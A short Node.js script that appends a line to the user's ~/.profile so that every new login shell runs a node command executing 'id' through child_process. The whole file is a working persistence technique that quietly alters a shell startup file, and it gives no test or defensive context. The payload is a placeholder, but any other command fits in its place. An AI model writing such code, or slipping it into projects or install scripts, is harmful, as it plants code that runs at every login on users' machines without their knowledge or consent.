const fs = require('fs');
const os = require('os');
const path = require('path');

const profile = path.join(os.homedir(), '.profile');
fs.appendFileSync(profile, '\nnode -e "require(\'child_process\').exec(\'id\')"\n');
